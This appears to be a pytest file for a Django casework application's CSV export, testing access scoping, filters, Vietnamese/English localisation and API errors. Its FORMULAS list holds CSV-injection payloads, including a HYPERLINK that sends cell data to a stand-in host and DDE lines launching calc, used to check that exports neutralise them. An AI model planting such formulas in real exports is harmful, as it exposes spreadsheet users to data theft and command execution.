"""The case list as CSV: the cases one may see, with the list's filters, streamed, no identity."""

import csv
import io

from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from casework.choices import Kind, State
from casework.models import Case


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200, response
    assert response.streaming and response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="casework-')
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def api(user):
    client = APIClient(HTTP_ACCEPT_LANGUAGE="en")
    token, _ = Token.objects.get_or_create(user=user)
    client.credentials(HTTP_AUTHORIZATION=f"Token {token.key}")
    return client


def test_the_page_exports_the_cases_the_user_sees_with_the_list_s_filters(client, world):
    complaint = world.case_in(State.ACCEPTED)
    petition = world.register(kind=Kind.PETITION, subject="Kiến nghị sửa đường")
    elsewhere = world.register(actor=world.other_intake, unit="COMM")
    client.force_login(world.supervisor)
    header, *rows = rows_of(client.get("/cases/case/export.csv", HTTP_ACCEPT_LANGUAGE="en"))
    assert header[:3] == ["Reference", "Kind", "Round"]
    references = [r[0] for r in rows]
    assert references == [complaint.reference, petition.reference]
    assert elsewhere.reference not in references
    by_ref = {r[0]: dict(zip(header, r, strict=True)) for r in rows}
    assert by_ref[complaint.reference]["State"] == "Accepted"
    assert by_ref[complaint.reference]["Unit"] == "PROV"
    assert by_ref[petition.reference]["Subject"] == "Kiến nghị sửa đường"
    # No identity in any line.
    assert all("Nguyễn Văn An" not in ",".join(r) for r in rows)
    # The list's filters and its search box.
    _h, *only = rows_of(client.get("/cases/case/export.csv", {"kind": "petition"}))
    assert [r[0] for r in only] == [petition.reference]
    _h, *found = rows_of(client.get("/cases/case/export.csv", {"_search": "sửa đường"}))
    assert [r[0] for r in found] == [petition.reference]
    # In the user's language, titles and states alike.
    header_vi, *rows_vi = rows_of(client.get("/cases/case/export.csv", HTTP_ACCEPT_LANGUAGE="vi"))
    assert header_vi[:2] == ["Số hồ sơ", "Loại đơn"]
    assert rows_vi[0][header_vi.index("Trạng thái")] == "Đã thụ lý"


def test_the_list_page_offers_the_export_of_what_it_shows(client, world):
    client.force_login(world.auditor)
    page = client.get("/cases/case/", {"kind": "complaint"}).content.decode()
    assert "/cases/case/export.csv?kind=complaint" in page


def test_the_investigator_exports_only_the_cases_assigned_to_them(client, world):
    mine = world.case_in(State.ASSIGNED)
    world.case_in(State.ACCEPTED)
    client.force_login(world.investigator)
    _h, *rows = rows_of(client.get("/cases/case/export.csv"))
    assert [r[0] for r in rows] == [mine.reference]


def test_the_api_exports_with_its_filters_and_refuses_bad_ones(client, world):
    accepted = world.case_in(State.ACCEPTED)
    world.register()
    header, *rows = rows_of(api(world.supervisor).get("/api/v1/cases/export/?state=accepted"))
    assert [r[0] for r in rows] == [accepted.reference] and header[0] == "Reference"
    bad = api(world.supervisor).get("/api/v1/cases/export/?state=nonsense")
    assert bad.status_code == 400 and "state" in bad.json()
    assert APIClient().get("/api/v1/cases/export/").status_code == 401
    client.force_login(world.supervisor)
    page = client.get("/cases/case/export.csv?state=nonsense", HTTP_ACCEPT_LANGUAGE="en")
    assert page.status_code == 400 and "state:" in page.content.decode()


#: Subjects a spreadsheet would run as a formula (OWASP, "CSV Injection"), one per character.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_both_exports_neutralise_what_a_spreadsheet_would_run(client, world):
    """A text cell that a spreadsheet would read as a formula starts with a single quote: the
    page's export and the API's alike; dates and numbers are written as they are."""
    cases = {}
    for subject in FORMULAS:
        case = world.register(subject="Đơn thử")
        # Written as it stands: the form would strip a leading tab, but data also arrives by
        # other ways (an import, an older version).
        Case.objects.filter(pk=case.pk).update(subject=subject)
        cases[case.reference] = subject
    client.force_login(world.supervisor)
    for response in (
        client.get("/cases/case/export.csv", HTTP_ACCEPT_LANGUAGE="en"),
        api(world.supervisor).get("/api/v1/cases/export/"),
    ):
        header, *rows = rows_of(response)
        by_ref = {r[0]: dict(zip(header, r, strict=True)) for r in rows}
        assert set(by_ref) == set(cases)
        for reference, subject in cases.items():
            row = by_ref[reference]
            assert row["Subject"] == "'" + subject, row
            assert row["Round"] == "1" and row["Received on"][:2] == "20"  # untouched
            for title, cell in row.items():
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (title, cell)
